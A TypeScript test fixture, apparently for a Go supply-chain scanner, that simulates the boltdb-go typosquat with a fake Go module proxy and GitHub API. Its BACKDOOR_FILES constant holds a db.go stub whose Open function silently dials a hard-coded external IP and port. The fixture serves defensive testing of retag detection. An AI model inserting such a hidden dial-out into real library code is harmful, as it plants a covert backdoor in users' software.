/**
 * The boltdb-go attack as local servers: a GOPROXY that cached a backdoored github.com/boltdb-go/bolt
 * v1.3.1 (with the Origin commit it saw), and a GitHub API whose v1.3.1 tag now points at a clean copy
 * of github.com/boltdb/bolt. Shared by the engine, CLI and app end-to-end tests.
 */
import { startGoProxyServer, type FixtureModule, type GoProxyServer } from '../helpers/goproxy-server.js';
import { makeCommit, makeRepo, startGitHubServer, type GitHubServer } from '../helpers/github-server.js';

export const CLEAN_FILES: Record<string, string> = {
  LICENSE: 'The MIT License (MIT)\n\nCopyright (c) 2013 Ben Johnson\n',
  'README.md': '# Bolt\n\nAn embedded key/value database for Go.\n',
  'bolt_unix.go': 'package bolt\n\nfunc flock() error { return nil }\n',
  'db.go': 'package bolt\n\n// Open creates and opens a database at the given path.\nfunc Open(path string) (*DB, error) {\n\treturn &DB{path: path}, nil\n}\n\ntype DB struct{ path string }\n',
  'tx.go': 'package bolt\n\ntype Tx struct{ db *DB }\n',
};

/** What the proxy cached: db.go phones home. */
export const BACKDOOR_FILES: Record<string, string> = {
  ...CLEAN_FILES,
  'db.go':
    'package bolt\n\nimport "net"\n\n// Open creates and opens a database at the given path.\nfunc Open(path string) (*DB, error) {\n\tgo func() { c, _ := net.Dial("tcp", "49.12.198.231:20022"); _ = c }()\n\treturn &DB{path: path}, nil\n}\n\ntype DB struct{ path string }\n',
};

export interface BoltWorld {
  proxy: GoProxyServer;
  github: GitHubServer;
  backdoorSha: string;
  cleanSha: string;
  close(): Promise<void>;
}

/** Starts both servers; `extra` adds more proxy modules (e.g. benign upgrades); `proxyFiles` replaces what the proxy cached. */
export async function startBoltWorld(opts: { latencyMs?: number; extra?: FixtureModule[]; proxyDown?: boolean; proxyFiles?: Record<string, string> } = {}): Promise<BoltWorld> {
  const proxyFiles = opts.proxyFiles ?? BACKDOOR_FILES;
  const backdoor = makeCommit(proxyFiles, '2021-11-10T08:00:00Z', 'v1.3.1');
  const clean = makeCommit(CLEAN_FILES, '2021-11-12T09:30:00Z', 'v1.3.1 (retagged)');
  const repo = makeRepo('boltdb-go', 'bolt', [backdoor, clean]);
  repo.tags['v1.3.1'] = { commit: clean.sha };
  const upstream = makeCommit(CLEAN_FILES, '2017-01-31T12:00:00Z', 'Release 1.3.1');
  const upstreamRepo = makeRepo('boltdb', 'bolt', [upstream]);
  upstreamRepo.tags['v1.3.1'] = { commit: upstream.sha };
  const github = await startGitHubServer({ repos: { 'boltdb-go/bolt': repo, 'boltdb/bolt': upstreamRepo }, latencyMs: opts.latencyMs });
  const modules: FixtureModule[] = [
    {
      path: 'github.com/boltdb-go/bolt',
      version: 'v1.3.1',
      files: proxyFiles,
      info: { Time: '2021-11-10T08:05:00Z', Origin: { VCS: 'git', URL: 'https://github.com/boltdb-go/bolt', Ref: 'refs/tags/v1.3.1', Hash: backdoor.sha } },
    },
    { path: 'github.com/boltdb/bolt', version: 'v1.3.1', files: CLEAN_FILES, info: { Time: '2017-01-31T12:05:00Z' } },
    ...(opts.extra ?? []),
  ];
  const proxy = await startGoProxyServer({
    modules,
    latencyMs: opts.latencyMs,
    ...(opts.proxyDown ? { faults: () => ({ kind: 'status' as const, status: 500, body: 'internal error' }) } : {}),
  });
  return {
    proxy,
    github,
    backdoorSha: backdoor.sha,
    cleanSha: clean.sha,
    close: async () => {
      await proxy.close();
      await github.close();
    },
  };
}

/** Engine settings pointing at the world's servers (no checksum database: GOSUMDB=off). */
export function worldSettings(w: BoltWorld) {
  return {
    goproxy: w.proxy.url,
    gosumdb: 'off',
    goprivate: '',
    gonoproxy: null,
    gonosumdb: null,
    githubApiUrl: w.github.url,
    originToken: null,
    concurrency: 8,
    cacheEntries: 100,
    tarballMaxBytes: 10 << 20,
    httpTimeoutMs: 5000,
  };
}
